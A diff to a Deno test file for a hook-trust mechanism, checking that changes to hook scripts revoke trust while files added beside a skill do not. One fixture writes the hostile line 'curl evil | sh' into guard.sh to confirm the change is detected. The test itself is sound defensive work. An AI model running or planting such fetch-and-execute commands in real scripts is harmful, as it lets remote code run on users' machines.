@@ -43,6 +43,7 @@ Deno.test("judgeTrust() asks again when anything changes that decides what a hoo
   ]);
   await write("README.md", "other words\n");
   assertEquals([await state(repository), await trust.isUnchanged()], ["trusted", true]);
+  assertEquals(await trust.isUnchanged("programs"), true);
   for (const path of Object.keys(trust.files)) {
     const before = await Deno.readTextFile(join(repository.root, path));
     await write(path, `${before} `);
@@ -52,6 +53,7 @@ Deno.test("judgeTrust() asks again when anything changes that decides what a hoo
       [path],
       false,
     ]);
+    assertEquals(await trust.isUnchanged("programs"), false);
     await write(path, before);
     assertEquals([await state(repository), await trust.isUnchanged()], ["trusted", true]);
   }
@@ -228,8 +230,13 @@ Deno.test("judgeTrust() looks at a hook's script beside a large collection of sk
   await Promise.all(numbers.map((n) => Deno.writeTextFile(join(at, `${n}.py`), "1\n")));
   const trust = await trustIt(repository);
   assertEquals(Object.keys(trust.files).length, 302);
+  // What a skill has beside it is none of a hook's business.
+  await Deno.writeTextFile(join(at, "new.py"), "2\n");
+  assertEquals([await trust.isUnchanged(), await trust.isUnchanged("programs")], [false, true]);
+  await Deno.remove(join(at, "new.py"));
   await repository.write("guard.sh", "curl evil | sh\n");
   assertEquals([await trust.isUnchanged(), await state(repository)], [false, "changed"]);
+  assertEquals(await trust.isUnchanged("programs"), false);
 });
 
 Deno.test("trust is shared by worktrees at the same content, and several contents may be trusted", async () => {
